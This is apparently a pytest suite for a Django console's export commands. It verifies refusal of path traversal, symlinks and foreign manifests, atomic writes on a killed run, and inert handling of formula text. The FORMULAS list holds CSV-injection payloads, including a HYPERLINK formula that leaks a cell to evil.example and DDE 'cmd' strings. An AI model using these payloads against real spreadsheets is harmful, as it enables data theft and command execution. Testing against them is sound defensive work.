"""Exports under hostile input: `--out` pointing elsewhere, formula text, a killed run."""

import io
import json
import os
import signal
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pytest
import yaml
from django.core.management import CommandError, call_command

from feedback.models import ExportManifest
from feedback.services import flag_review

from .factories import FlagFactory

pytestmark = pytest.mark.django_db
ROOT = Path(__file__).resolve().parents[2]

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def run(*args) -> str:
    out = io.StringIO()
    call_command(*args, stdout=out, stderr=io.StringIO())
    return out.getvalue()


@pytest.fixture
def approved(application, curator):
    flag = FlagFactory(application=application)
    return flag_review(flag=flag, reviewer=curator, status="approved", version=flag.version)


@pytest.mark.parametrize("relative", ["../victim.txt", "sub/../../victim.txt"])
def test_out_that_climbs_onto_an_existing_file_is_refused_and_the_file_untouched(approved, tmp_path, relative):
    work = tmp_path / "exports"
    (work / "sub").mkdir(parents=True)
    victim = tmp_path / "victim.txt"
    victim.write_text("SECRET_KEY = 'keep me'\n")
    with pytest.raises(CommandError) as exc:
        run("export_flags", "--application", "acme", "--out", str(work / relative))
    message = str(exc.value)
    assert exc.value.returncode == 2 and "\n" not in message
    assert str(victim.resolve()) in message and "is not an export" in message
    assert victim.read_text() == "SECRET_KEY = 'keep me'\n"
    assert sorted(p.name for p in tmp_path.rglob("*")) == ["exports", "sub", "victim.txt"]
    assert not ExportManifest.objects.exists()


@pytest.mark.parametrize("manifest", [
    '{"tool": "another one", "rows": 3}',  # someone else's manifest.json
    "0",  # any JSON value
    "null",
    '{"schema": "curator-console/export-manifest/1", "sha256": "not the file"}',  # ours in shape only
])
def test_a_manifest_this_console_did_not_write_never_lets_a_file_be_replaced(approved, tmp_path, manifest):
    victim = tmp_path / "dataset.jsonl"
    victim.write_text('{"keep": "me"}\n')
    (tmp_path / "dataset.jsonl.manifest.json").write_text(manifest)
    with pytest.raises(CommandError) as exc:
        run("export_flags", "--application", "acme", "--out", str(victim))
    assert exc.value.returncode == 2 and "\n" not in str(exc.value) and "is not an export" in str(exc.value)
    assert victim.read_text() == '{"keep": "me"}\n'
    assert (tmp_path / "dataset.jsonl.manifest.json").read_text() == manifest
    assert not ExportManifest.objects.exists()


def test_an_export_changed_since_is_not_replaced(approved, tmp_path):
    out = tmp_path / "acme.jsonl"
    run("export_flags", "--application", "acme", "--out", str(out))
    out.write_text("edited by hand\n")
    with pytest.raises(CommandError):
        run("export_flags", "--application", "acme", "--out", str(out))
    assert out.read_text() == "edited by hand\n"


def test_out_that_is_a_symlink_is_refused(approved, tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    (tmp_path / "corpus.jsonl").symlink_to(victim)
    with pytest.raises(CommandError) as exc:
        run("export_flags", "--application", "acme", "--out", str(tmp_path / "corpus.jsonl"))
    assert exc.value.returncode == 2 and "symbolic link" in str(exc.value)
    assert victim.read_text() == "keep me"


def test_an_earlier_export_is_replaced(approved, tmp_path):
    out = tmp_path / "corpus.jsonl"
    run("export_flags", "--application", "acme", "--out", str(out))
    run("export_flags", "--application", "acme", "--out", str(out))
    assert ExportManifest.objects.count() == 2 and len(out.read_text().splitlines()) == 1


def test_formula_text_leaves_every_export_as_inert_data(application, curator, tmp_path):
    """There is no CSV export: the JSONL corpus and the YAML drafts carry formula-looking
    text as quoted strings, byte for byte, so no spreadsheet or loader evaluates it."""
    for i, formula in enumerate(FORMULAS):
        flag = FlagFactory(application=application, note=formula, prompt=formula, answer=formula,
                           message_id=f"m-{i}")
        flag_review(flag=flag, reviewer=curator, status="approved", version=flag.version, note=formula)
    out = tmp_path / "corpus.jsonl"
    run("export_flags", "--application", "acme", "--out", str(out))
    lines = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert sorted(line["note"] for line in lines) == sorted(FORMULAS)
    assert all(line["prompt"] == line["note"] == line["answer"] for line in lines)
    for raw in out.read_text(encoding="utf-8").splitlines():
        assert raw.startswith("{")  # every line is a JSON object: no cell starts with = + - @
    (tmp_path / "drafts").mkdir()
    run("export_drafts", "--application", "acme", "--out", str(tmp_path / "drafts"))
    loaded = [yaml.safe_load(p.read_text(encoding="utf-8")) for p in (tmp_path / "drafts").iterdir()]
    strings: set[str] = set()

    def collect(node: object) -> None:
        if isinstance(node, str):
            strings.add(node)
        elif isinstance(node, dict):
            for value in node.values():
                collect(value)
        elif isinstance(node, list):
            for value in node:
                collect(value)

    collect(loaded)
    assert set(FORMULAS) <= strings  # loaded back as the very strings, not numbers or formulas


KILLED_EXPORT = textwrap.dedent("""
    import sys, time
    import django
    django.setup()
    from django.core.management import call_command
    from consoles.services import application_create
    from consoles.tests.factories import UserFactory
    from feedback.services import exports as export_services
    from feedback.services import flag_review
    from feedback.tests.factories import FlagFactory

    call_command("migrate", verbosity=0)
    app = application_create(slug="acme", name="Acme")
    user = UserFactory(username="cora")
    for i in range(3):
        flag = FlagFactory(application=app, message_id=f"m{i}")
        flag_review(flag=flag, reviewer=user, status="approved", version=flag.version)
    real = export_services.flag_export_batches

    def stuck(**kwargs):
        yield from real(**kwargs)
        print("WRITING", flush=True)
        time.sleep(120)  # killed here, mid-export

    export_services.flag_export_batches = stuck
    call_command("export_flags", "--application", "acme", "--out", sys.argv[1])
""")


def test_an_export_killed_mid_run_leaves_no_file_at_its_destination(tmp_path):
    out = tmp_path / "out" / "corpus.jsonl"
    out.parent.mkdir()
    env = {**os.environ, "DJANGO_SETTINGS_MODULE": "consoles.settings",
           "SQLITE_PATH": str(tmp_path / "db.sqlite3")}
    env.pop("DATABASE_URL", None)
    proc = subprocess.Popen([sys.executable, "-c", KILLED_EXPORT, str(out)], cwd=ROOT, env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        line = proc.stdout.readline()
        assert line.strip() == "WRITING", line + proc.stderr.read()
        partials = list(out.parent.glob(".corpus.jsonl.*.partial"))
        assert partials  # the rows are being written beside the destination
        proc.send_signal(signal.SIGKILL)
    finally:
        proc.kill()
        proc.wait(timeout=30)
    time.sleep(0.05)
    assert not out.exists() and not (out.parent / "corpus.jsonl.manifest.json").exists()
